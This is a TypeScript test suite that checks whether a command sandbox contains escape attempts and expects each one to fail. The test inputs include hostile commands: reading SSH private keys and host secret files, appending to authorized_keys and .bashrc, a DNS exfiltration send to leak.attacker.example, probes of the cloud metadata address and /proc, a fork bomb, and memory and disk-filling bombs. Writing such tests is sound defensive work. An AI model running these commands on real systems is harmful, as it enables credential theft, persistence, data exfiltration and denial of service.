/**
 * The sandbox escape suite (issue 15): each test tries one way out of the sandbox and
 * checks that it is contained, and why. The host side of each attempt (a secret file, a
 * listening port, an abstract socket, the test's own process) is real.
 */

import {
  existsSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hostProcesses, newWorkspace, sandboxDrivers, shell, warnWhenNoSandbox } from './support.js';

warnWhenNoSandbox('the sandbox escape suite');

/** A file on the host, outside any workspace, that no sandbox may read. */
const secretFolder = mkdtempSync(join(tmpdir(), 'aos-host-secret-'));
const secretFile = join(secretFolder, 'secret.txt');
const secret = `host-secret-${Math.random().toString(36).slice(2)}`;
writeFileSync(secretFile, secret);

/** Runs a Node script inside the sandbox (Node is in /usr, which the sandbox reads). */
function nodeScript(script: string): string {
  return `exec ${process.execPath} -e ${JSON.stringify(script).replaceAll('$', '\\$')}`;
}

/** A script that tries to connect to host:port over TCP (or UDP) and prints the outcome. */
function connectScript(host: string, port: number): string {
  return nodeScript(
    `const s = require('net').connect({ host: '${host}', port: ${port}, timeout: 2000 });` +
      `s.on('connect', () => { console.log('connected'); process.exit(0); });` +
      `s.on('timeout', () => { console.log('timeout'); process.exit(1); });` +
      `s.on('error', (e) => { console.log(e.code); process.exit(1); });`,
  );
}

describe.each(sandboxDrivers.filter((entry) => entry.available))(
  'sandbox escapes on $driver.name',
  ({ driver }) => {
    let abstractServer: Server;
    const abstractName = `\0aos-escape-${process.pid}`;

    beforeAll(async () => {
      abstractServer = createServer((socket) => socket.end('host says hi'));
      await new Promise<void>((resolve) => abstractServer.listen(abstractName, resolve));
    });
    afterAll(() => {
      abstractServer.close();
    });

    it('cannot read a host file outside the workspace: it is not mounted', async () => {
      const result = await shell(driver, `cat ${secretFile}; ls ${secretFolder}`);
      expect(result.stdout).not.toContain(secret);
      expect(result.stderr).toContain('No such file or directory');
    });

    it('cannot read the user home, SSH keys or shell profile: not mounted', async () => {
      const home = homedir();
      const result = await shell(
        driver,
        `ls -a ${home}; cat ${home}/.ssh/id_rsa ${home}/.bashrc ${home}/.profile`,
      );
      expect(result.stdout).toBe('');
      expect(result.exitCode).not.toBe(0);
    });

    it('cannot write outside the workspace: the root and the system are read-only', async () => {
      const result = await shell(
        driver,
        'for f in /etc/aos-x /usr/aos-x /aos-x /bin/aos-x; do echo x > $f && echo "wrote $f"; done; true',
      );
      expect(result.stdout).toBe('');
      expect(result.stderr).toMatch(/Read-only file system/);
      for (const file of ['/etc/aos-x', '/usr/aos-x', '/aos-x']) expect(existsSync(file)).toBe(false);
    });

    it('cannot write to the user shell profile or SSH keys', async () => {
      const home = homedir();
      const result = await shell(
        driver,
        `mkdir -p ${home}/.ssh && echo key >> ${home}/.ssh/authorized_keys; echo evil >> ${home}/.bashrc; true`,
      );
      expect(result.stderr).toMatch(/Read-only file system|No such file|Permission denied/);
      const profile = join(home, '.bashrc');
      expect(existsSync(profile) ? readFileSync(profile, 'utf8') : '').not.toContain('evil');
    });

    it('cannot follow a symlink in the workspace to a host file: it resolves inside the sandbox', async () => {
      const workspace = newWorkspace();
      symlinkSync(secretFile, join(workspace, 'link'));
      const result = await shell(driver, 'cat link', { workspace });
      expect(result.stdout).not.toContain(secret);
      expect(result.stderr).toContain('No such file or directory');
    });

    it('cannot write through a symlink in the workspace to a host folder', async () => {
      const workspace = newWorkspace();
      const target = mkdtempSync(join(tmpdir(), 'aos-host-target-'));
      symlinkSync(target, join(workspace, 'out'));
      await shell(driver, 'echo planted > out/planted.txt', { workspace });
      expect(existsSync(join(target, 'planted.txt'))).toBe(false);
    });

    it('cannot hard-link a file from outside the workspace: other mounts are other devices', async () => {
      const result = await shell(driver, 'ln /etc/passwd /workspace/passwd && echo linked');
      expect(result.stdout).toBe('');
      expect(result.stderr).toMatch(/Invalid cross-device link|Operation not permitted/);
    });

    it('gains nothing from a hard link planted in the workspace: it is the same inode, no more', async () => {
      const workspace = newWorkspace();
      const mine = join(workspace, 'mine.txt');
      writeFileSync(mine, 'workspace data');
      linkSync(mine, join(workspace, 'twin.txt'));
      const result = await shell(driver, 'cat twin.txt', { workspace });
      expect(result.stdout).toBe('workspace data');
    });

    it('cannot climb out of the workspace with ..', async () => {
      const result = await shell(driver, `cat /workspace/../../..${secretFile}; ls /workspace/../..`);
      expect(result.stdout).not.toContain(secret);
      expect(result.stdout).not.toContain('aos-host-secret');
    });

    it('sees no host process in /proc and cannot signal or trace its parent', async () => {
      const result = await shell(
        driver,
        `ls /proc | grep -E '^[0-9]+$' | wc -l; kill -0 ${process.pid} && echo "signalled"; cat /proc/${process.pid}/environ && echo "read environ"; true`,
      );
      const visible = Number(result.stdout.trim().split('\n')[0]);
      expect(visible).toBeLessThan(10);
      expect(result.stdout).not.toContain('signalled');
      expect(result.stdout).not.toContain('read environ');
    });

    it('has no /sys, and /proc offers no way to the host root', async () => {
      const result = await shell(
        driver,
        `ls /sys; ls /proc/1/root${secretFolder}; cat /proc/1/root${secretFile}`,
      );
      expect(result.stdout).not.toContain(secret);
      expect(result.stderr).toContain("cannot access '/sys'");
    });

    it('reaches no network by name: no resolver, no DNS', async () => {
      const result = await shell(driver, 'getent hosts example.com; echo "status $?"; cat /etc/resolv.conf');
      expect(result.stdout).toContain('status 2');
      expect(result.stderr).toContain('No such file');
    });

    it('reaches no network by IPv4 address', async () => {
      const result = await shell(driver, connectScript('1.1.1.1', 443));
      expect(result.stdout.trim()).toBe('ENETUNREACH');
    });

    it('reaches no network by IPv6 address', async () => {
      const result = await shell(driver, connectScript('2606:4700:4700::1111', 443));
      expect(result.stdout.trim()).toMatch(/ENETUNREACH|EADDRNOTAVAIL/);
    });

    it('reaches no cloud metadata address', async () => {
      const result = await shell(driver, connectScript('169.254.169.254', 80));
      expect(result.stdout.trim()).toBe('ENETUNREACH');
    });

    it("reaches no host service on loopback: the sandbox's loopback is its own", async () => {
      const listening = createServer((socket) => socket.end('host service'));
      await new Promise<void>((resolve) => listening.listen(0, '127.0.0.1', resolve));
      const port = (listening.address() as { port: number }).port;
      try {
        const result = await shell(driver, connectScript('127.0.0.1', port));
        expect(result.stdout.trim()).toBe('ECONNREFUSED');
      } finally {
        listening.close();
      }
    });

    it('cannot exfiltrate by DNS: a UDP datagram to a resolver has no route', async () => {
      const result = await shell(
        driver,
        nodeScript(
          `const s = require('dgram').createSocket('udp4');` +
            `s.send('leak.attacker.example', 53, '8.8.8.8', (e) => { console.log(e ? e.code : 'sent'); process.exit(0); });`,
        ),
      );
      expect(result.stdout.trim()).toBe('ENETUNREACH');
    });

    it("reaches no host Unix socket: not the server's socket file, not an abstract socket", async () => {
      const result = await shell(
        driver,
        `ls /var/run/postgresql /run 2>&1; ${nodeScript(
          `const s = require('net').connect(${JSON.stringify(abstractName)});` +
            `s.on('data', (d) => { console.log('got ' + d); process.exit(0); });` +
            `s.on('error', (e) => { console.log(e.code); process.exit(1); });`,
        )}`,
      );
      expect(result.stdout).not.toContain('host says hi');
      expect(result.stdout).toContain('ECONNREFUSED');
      expect(result.stdout).toContain('No such file or directory');
    });

    it('is contained in a fork bomb: the process limit stops it, and nothing is left after', async () => {
      const marker = `aosbomb${process.pid}`;
      const result = await shell(driver, `${marker}(){ ${marker}|${marker}& }; ${marker}; sleep 2`, {
        limits: { processes: 64 },
        deadlineMs: 10_000,
      });
      expect(result.stderr).toMatch(/Cannot fork|Resource temporarily unavailable/);
      await new Promise((resolve) => setTimeout(resolve, 200));
      expect(hostProcesses(marker)).toEqual([]);
    });

    it('is contained in a memory bomb: the address-space limit stops it', async () => {
      const result = await shell(driver, 'head -c 4000000000 /dev/zero | tail | wc -c', {
        limits: { memoryBytes: 256 * 1024 * 1024 },
      });
      expect(result.stderr).toContain('memory exhausted');
    });

    it('is contained when filling the disk: the file size limit, the bounded /tmp and /dev/shm, a read-only /dev', async () => {
      const workspace = newWorkspace();
      const result = await shell(
        driver,
        'head -c 50000000 /dev/zero > /workspace/big; head -c 50000000 /dev/zero > /tmp/big; echo "tmp $?"; head -c 50000000 /dev/zero > /dev/shm/big; echo "shm $?"; echo x > /dev/planted; echo "dev $?"',
        { workspace, limits: { fileBytes: 1_000_000, tmpBytes: 2_000_000 } },
      );
      expect(readFileSync(join(workspace, 'big')).length).toBe(1_000_000);
      expect(result.stdout).toContain('tmp 1');
      expect(result.stdout).toContain('shm 1');
      expect(result.stdout).toContain('dev 2');
      expect(result.stderr).toMatch(/File size limit exceeded|No space left on device/);
    });

    it('is ended at its deadline, however it loops', async () => {
      const result = await shell(driver, 'trap "" TERM INT HUP; while :; do :; done', { deadlineMs: 700 });
      expect(result.killedBy).toBe('deadline');
      expect(result.exitCode).toBeNull();
    });

    it('leaves no orphan after it is killed, detached or not', async () => {
      const marker = 4000 + (process.pid % 1000);
      const controller = new AbortController();
      const running = shell(
        driver,
        `setsid sleep ${marker} & nohup sleep ${marker} >/dev/null 2>&1 & sleep ${marker}`,
        {
          signal: controller.signal,
        },
      );
      setTimeout(() => controller.abort(), 500);
      expect((await running).killedBy).toBe('abort');
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(hostProcesses(`sleep ${marker}`)).toEqual([]);
    });

    it('gains no privilege from setuid binaries: no new privileges and no capabilities', async () => {
      const result = await shell(
        driver,
        'grep -E "^(NoNewPrivs|CapEff|CapPrm)" /proc/self/status; id -u; su -c id root </dev/null',
      );
      expect(result.stdout).toContain('NoNewPrivs:\t1');
      expect(result.stdout).toContain('CapEff:\t0000000000000000');
      expect(result.stdout).toContain('CapPrm:\t0000000000000000');
      expect(result.stdout).not.toMatch(/uid=0\(root\)/);
    });

    it('does not inherit the environment: secrets in the host environment stay out', async () => {
      process.env.AOS_ESCAPE_TEST_API_KEY = 'sk-escape-test-secret';
      try {
        const result = await shell(driver, 'env; cat /proc/1/environ /proc/self/environ | tr "\\0" "\\n"');
        expect(result.stdout).not.toContain('sk-escape-test-secret');
        expect(result.stdout).not.toContain('AOS_TEST_DATABASE_URL');
      } finally {
        delete process.env.AOS_ESCAPE_TEST_API_KEY;
      }
    });

    it("sees a private /tmp and /dev, not the host's", async () => {
      const hostTmp = join(tmpdir(), `aos-visible-${process.pid}`);
      mkdirSync(hostTmp, { recursive: true });
      const result = await shell(driver, `ls ${hostTmp}; ls /dev`);
      expect(result.stderr).toContain('No such file or directory');
      expect(result.stdout).not.toMatch(/\b(sda|nvme0n1|vda|mem|kmsg)\b/);
    });
  },
);
